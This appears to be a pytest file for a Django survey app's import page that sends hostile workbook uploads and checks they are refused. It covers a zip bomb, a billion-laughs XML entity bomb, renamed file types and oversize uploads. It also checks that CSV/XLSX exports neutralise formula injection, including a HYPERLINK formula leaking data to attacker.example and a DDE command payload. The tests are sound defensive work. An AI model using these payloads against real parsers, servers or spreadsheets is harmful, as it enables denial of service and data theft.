"""Questionnaire uploads through the import page, as an attacker would send them: each is refused with a
clear message and leaves nothing behind (no series, edition or item). The parser's own guards are unit
tested in tests/surveys/test_xlsform.py; here they are checked end to end, with the size limit that now
acts while the request is read. Formulas: cells are taken as text, never evaluated, and answers that look
like formulas are neutralised in CSV and XLSX exports.
"""

import csv
import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.files.uploadhandler import SkipFile
from django.db import transaction
from django.test import Client
from django.utils import timezone

from exports import services as export_services
from responses.services import responses_write_released
from surveys import services as survey_services
from surveys.models import Edition, Item, Series
from surveys.reference import REFERENCE_DIR
from tests.conftest import login_with_mfa
from tests.exports.helpers import job_path, run_export
from tests.surveys.xlsform_helpers import build_xlsform, row

IMPORT = "/staff/editions/import/"


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def workbook_parts(data: bytes) -> dict[str, bytes]:
    source = zipfile.ZipFile(io.BytesIO(data))
    return {name: source.read(name) for name in source.namelist()}


def with_sheet(xml: bytes) -> bytes:
    """A valid one-question XLSForm whose survey sheet is replaced by `xml`."""
    parts = workbook_parts(build_xlsform([row("integer", "n", "N")]))
    sheet = next(name for name in parts if name.startswith("xl/worksheets/sheet"))
    return zip_bytes({**parts, sheet: xml})


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b']><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
)
ATTACKS = {
    # name: (file name, content, what the page must say)
    "zip bomb": (
        "bomb.xlsx",
        zip_bytes(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/s.xml": b"\0" * 5_000_000}
        ),
        "zip bomb",
    ),
    "expands past the limit": (
        "huge.xlsx",
        zip_bytes(
            {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>", "xl/s.xml": b"\0" * 60_000_000}
        ),
        "would expand to",
    ),
    "malformed XML": (
        "broken.xlsx",
        with_sheet(b"<worksheet><sheetData><row><c>broken"),
        "could not be read",
    ),
    "billion laughs": ("laughs.xlsx", with_sheet(BILLION_LAUGHS), "could not be read"),
    "PDF renamed .xlsx": ("form.xlsx", b"%PDF-1.7\n" + b"\0" * 2000, "not an Excel workbook"),
    "PNG renamed .xlsx": ("form.xlsx", b"\x89PNG\r\n\x1a\n" + b"\0" * 2000, "not an Excel workbook"),
    "old .xls renamed": ("form.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, ".xls"),
}


@pytest.fixture
def admin(admin_ada):
    return login_with_mfa(Client(), admin_ada)


def upload(client, name: str, content: bytes, path: str = IMPORT):
    return client.post(
        path,
        {"new_series_slug": "attack", "label": "2026", "file": SimpleUploadedFile(name, content)},
    )


def nothing_saved() -> bool:
    return (
        not Series.objects.filter(slug="attack").exists()
        and not Edition.objects.filter(label="2026").exists()
    )


@pytest.mark.parametrize("attack", list(ATTACKS))
def test_a_hostile_workbook_is_refused_with_a_clear_error_and_nothing_saved(admin, attack):
    name, content, message = ATTACKS[attack]
    response = upload(admin, name, content)
    assert response.status_code == 200  # the import page again, with the errors
    assert message in response.content.decode()
    assert nothing_saved()


def test_a_too_large_upload_is_refused_while_it_is_read(admin, settings):
    settings.IMPORT_MAX_BYTES = 100_000
    response = upload(admin, "big.xlsx", b"PK" + b"\0" * 200_000)
    page = response.content.decode()
    assert "larger than 100,000 bytes; it was refused before it was read" in page
    assert nothing_saved()


def test_the_size_limit_also_stops_an_upload_whose_size_is_not_declared(settings, rf):
    """A chunked upload has no Content-Length: the handler counts what arrives and stops at the limit."""
    from config.uploads import SizeLimitedUploadHandler

    settings.IMPORT_MAX_BYTES = 10
    request = rf.post("/")
    handler = SizeLimitedUploadHandler(request)
    handler.handle_raw_input(None, {}, 0, b"b")
    handler.new_file("file", "f.xlsx", "application/octet-stream", None)
    assert handler.receive_data_chunk(b"x" * 10, 0) == b"x" * 10
    with pytest.raises(SkipFile):
        handler.receive_data_chunk(b"x", 10)
    assert "larger than 10 bytes" in request.upload_refused


def test_a_questionnaire_under_the_limit_still_imports(admin):
    content = (REFERENCE_DIR / "netclean-2017.xlsx").read_bytes()
    response = upload(admin, "netclean-2017.xlsx", content)
    assert response.status_code == 302
    assert Item.objects.filter(edition__label="2026", edition__series__slug="attack").count() > 30


def test_replacing_a_draft_with_a_hostile_file_keeps_the_draft(admin, draft_2017):
    before = list(Item.objects.filter(edition=draft_2017).values_list("code", flat=True))
    name, content, message = ATTACKS["billion laughs"]
    response = upload(admin, name, content, path=f"/staff/editions/{draft_2017.pk}/replace/")
    assert response.status_code == 400 and message in response.content.decode()
    assert list(Item.objects.filter(edition=draft_2017).values_list("code", flat=True)) == before


# --- Formulas -----------------------------------------------------------------------------------------

FORMULA_LABEL = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'


def workbook_with_formula_text() -> bytes:
    """An XLSForm whose labels begin with = + - @ as text cells, plus one real formula cell."""
    workbook = openpyxl.Workbook()
    survey = workbook.active
    survey.title = "survey"
    survey.append(["type", "name", "label", "hint"])
    survey.append(["text", "comment", FORMULA_LABEL, "@SUM(1,2)"])
    survey.append(["integer", "count", "+1 how many", "-1 if none"])
    for cells in survey.iter_rows(min_row=2):
        for cell in cells:
            cell.data_type = "s"  # text that merely looks like a formula
    survey["D3"] = "=1+1"  # a real formula cell: openpyxl writes no cached value, Excel would compute it
    settings_sheet = workbook.create_sheet("settings")
    settings_sheet.append(["form_title", "form_id", "version"])
    settings_sheet.append(["Formulas", "formulas", "1"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_formulas_are_text_on_import_and_neutralised_in_exports(admin, admin_ada, export_dir):
    response = upload(admin, "formulas.xlsx", workbook_with_formula_text())
    assert response.status_code == 302, response.content.decode()[:2000]
    edition = Edition.objects.get(series__slug="attack", label="2026")
    comment = Item.objects.get(edition=edition, code="comment")
    assert comment.label == {"en": FORMULA_LABEL} or FORMULA_LABEL in str(comment.label)  # text, as typed
    count = Item.objects.get(edition=edition, code="count")
    assert "2" not in str(count.hint)  # the formula cell was not evaluated (nothing to show, not "2")

    edition = survey_services.edition_open(edition=edition, closes_at=timezone.now() + timedelta(days=1))
    answers = ["=1+2", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "plain"]
    with transaction.atomic():
        responses_write_released(
            edition_id=edition.pk, payloads=[{"answers": {"comment": text, "count": 1}} for text in answers]
        )
    # Free text may wait for a person's review before the file is built; this test goes straight on.
    no_review = {"review": False} if hasattr(export_services.ExportOptions, "review") else {}
    for fmt in ("csv", "xlsx"):
        job = run_export(admin_ada, [edition], format=fmt, free_text="redacted", k=3, **no_review)
        path = job_path(job)
        if fmt == "csv":
            values = [r["comment"] for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))]
        else:
            sheet = openpyxl.load_workbook(path).active
            header = [c.value for c in sheet[1]]
            values = [r[header.index("comment")] for r in sheet.iter_rows(min_row=2, values_only=True)]
        assert sorted(values) == sorted(
            ["'=1+2", "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1)", "'\t=1", "plain"]
        )
